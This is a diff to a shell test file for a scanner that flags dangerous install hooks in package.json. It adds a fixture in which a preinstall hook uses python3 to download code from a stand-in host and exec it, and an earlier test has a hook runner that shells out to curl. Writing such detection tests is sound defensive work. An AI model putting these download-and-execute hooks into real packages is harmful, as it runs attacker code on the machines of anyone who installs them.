@@ -103,6 +103,10 @@ is "$(found "$d")" "pkg.install-script.download-exec critical package.json" "cer
 d=$(pkg '{ "name": "bun-hook", "version": "1.0.0", "scripts": { "preinstall": "bun run runner.js" } }' \
   runner.js 'require("child_process").execSync("curl -s https://x.example.com");')
 is "$(found "$d")" "pkg.install-time.child-process high runner.js" "bun run FILE is install-time code"
+is "$(found "$(hooks '{ "preinstall": "python3 -c \"import urllib.request as u; exec(u.urlopen(\u0027https://x.example.com/p\u0027).read())\"" }')")" \
+  "pkg.install-script.download-exec critical package.json" "python -c that fetches and execs"
+is "$(found "$(hooks '{ "postinstall": "python3 -c \"import sys; print(sys.version)\"" }')")" "" \
+  "twin: python -c that prints its version"
 
 deep=$(python3 -c 'print("$(" * 300 + "x")')
 d=$(hooks "{ \"postinstall\": \"$deep\" }")
